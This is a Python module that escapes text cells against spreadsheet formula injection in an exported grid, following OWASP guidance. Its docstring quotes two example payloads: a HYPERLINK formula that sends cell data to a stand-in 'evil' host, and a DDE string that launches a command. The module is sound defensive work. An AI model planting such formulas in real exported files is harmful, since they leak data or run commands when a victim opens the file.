"""Spreadsheet formula injection (OWASP "CSV Injection"): a text cell a spreadsheet would
run as a formula is written with a leading single quote.

A council topic, a mentee's or mentor's name, a silent mentor's name all come from other
people; a value such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
in a cell of an exported grid would run when the coordinator opens the file. OWASP's
guidance: no cell may begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return;
prefix such a cell with ``'`` (a spreadsheet shows the text, the quote hidden or visible
depending on the program, and never evaluates it).

Only text is escaped: numbers typed as numbers (an ``int`` or ``float`` column) are data,
never formulas, so a genuine ``-3`` stays the number -3 (in XLSX a numeric cell; in CSV
the digits ``-3``, which no spreadsheet reads as a formula). Text that happens to look like
a number is still escaped: it came from a free-text field, and ``-1+1`` also looks numeric
to a careless check.
"""

from __future__ import annotations

from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet cell a formula (or a DDE call)."""


def needs_escape(text: str) -> bool:
    return text.startswith(TRIGGERS)


def escape_text(text: str) -> str:
    """``text`` with ``'`` in front when it would start a formula, else unchanged."""
    return "'" + text if needs_escape(text) else text


def escape_cell(value: Any) -> Any:
    """A cell value made safe: text escaped (:func:`escape_text`), anything else as is."""
    return escape_text(value) if isinstance(value, str) else value


__all__ = ["TRIGGERS", "escape_cell", "escape_text", "needs_escape"]
